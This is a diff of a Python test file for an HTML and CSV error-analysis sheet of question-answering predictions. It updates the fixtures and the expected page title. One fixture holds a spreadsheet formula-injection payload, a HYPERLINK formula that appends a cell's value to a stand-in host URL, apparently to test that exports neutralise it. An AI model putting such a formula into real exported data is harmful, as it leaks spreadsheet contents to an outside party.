@@ -23,7 +23,7 @@ OVERLAPPING = AnsweredQuestion(
     id="1",
     question='Who, "exactly",\nbuilt it?',
     prediction="Orn",
-    answers=["Ada Orn", "Ada"],
+    answers=("Ada Orn", "Ada"),
     em=0,
     f1=2 / 3,
     passage=[MarkedText("Ada ", "right"), MarkedText("Orn", "both"), MarkedText(" built it.", "")],
@@ -31,13 +31,13 @@ OVERLAPPING = AnsweredQuestion(
 )
 FORMULA = '=HYPERLINK("http://host.example?"&A1)'
 HOSTILE_ITEM = AnsweredQuestion(
-    HOSTILE, HOSTILE, FORMULA, [HOSTILE], 0, 0, [MarkedText(HOSTILE, "wrong")], False
+    HOSTILE, HOSTILE, (HOSTILE,), FORMULA, 0, 0, [MarkedText(HOSTILE, "wrong")], False
 )
 SAMPLE = [OVERLAPPING, HOSTILE_ITEM]
 
 
 def page_of_sample() -> str:
-    return sheet_as_html(SAMPLE, "Errors", HOSTILE)
+    return sheet_as_html(SAMPLE, HOSTILE)
 
 
 class TestSheet:
@@ -78,7 +78,7 @@ class TestSheet:
         path.write_text(page_of_sample().replace("</body>", script), encoding="utf-8")
         page, complaints = open_in_chromium(path)
         assert complaints == ""
-        assert page.texts["title"] == ["Errors"]
+        assert page.texts["title"] == ["Error analysis"]
         assert "2 of 2 have a class" in page.texts["span"]
         (content,) = page.texts["pre"]
         (tmp_path / "filled.csv").write_text(content, encoding="utf-8", newline="")
